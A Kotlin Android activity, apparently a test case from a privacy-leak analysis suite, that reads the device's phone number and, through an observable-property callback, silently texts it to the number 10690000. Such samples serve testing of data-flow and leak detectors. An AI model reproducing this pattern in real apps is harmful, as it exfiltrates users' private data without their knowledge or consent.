package cn.privlens.suite.observable_property

import android.app.Activity
import android.content.Context
import android.os.Bundle
import android.telephony.SmsManager
import android.telephony.TelephonyManager

class Main : Activity() {
    private val session = Session { _, new -> SmsManager.getDefault().sendTextMessage("10690000", null, new, null, null) }

    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        val tm = getSystemService(Context.TELEPHONY_SERVICE) as TelephonyManager
        tm.line1Number?.let { session.number = it }
        finish()
    }
}
